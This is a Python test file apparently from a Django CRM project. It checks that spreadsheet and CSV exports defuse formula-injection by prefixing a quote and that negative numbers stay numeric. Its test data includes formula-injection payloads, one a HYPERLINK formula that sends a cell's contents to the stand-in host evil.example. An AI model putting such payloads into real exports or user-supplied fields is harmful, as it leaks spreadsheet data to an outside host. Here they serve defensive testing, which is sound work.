"""Exports never hand a spreadsheet a formula: text cells that would start one are written with
a leading `'`, numbers (negative ones too) stay numbers (core.spreadsheets)."""

import csv
import io
from decimal import Decimal

import pytest

from core.api.viewsets import _csv_cell
from core.spreadsheets import spreadsheet_cell
from tests.crm.factories import make_customer

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_starts_a_formula_is_neutralised(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Acme", "1+2", "a=b", "", "'quoted", "2026-01-10",
                                   Decimal("-5"), -5, -2.5, 0, True, None])
def test_everything_else_is_written_as_it_is(value):
    assert spreadsheet_cell(value) == value


def test_csv_cells_keep_negative_numbers_as_numbers():
    out = io.StringIO()
    csv.writer(out).writerow([_csv_cell(Decimal("-5")), _csv_cell("-5"), _csv_cell(None),
                              _csv_cell(["-1"])])
    assert out.getvalue() == '-5,\'-5,,"[""-1""]"\r\n'


@pytest.mark.django_db
def test_csv_export_neutralises_names_and_keeps_numbers(api, firm):
    for index, name in enumerate(DANGEROUS):
        make_customer(firm, name=name, code=f"C{index}", credit_limit=Decimal("5"))
    make_customer(firm, name="Plain Trading", code="CP", credit_limit=Decimal("1500.50"))
    response = api.get("/api/v1/customers", {"format": "csv", "limit": 100})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = {row["code"]: row["name"] for row in rows}
    for index, name in enumerate(DANGEROUS):
        assert names[f"C{index}"] == "'" + name
    assert names["CP"] == "Plain Trading"
    limits = {row["code"]: row["creditLimit"] for row in rows}
    assert limits["C2"] == "5.00" and limits["CP"] == "1500.50"
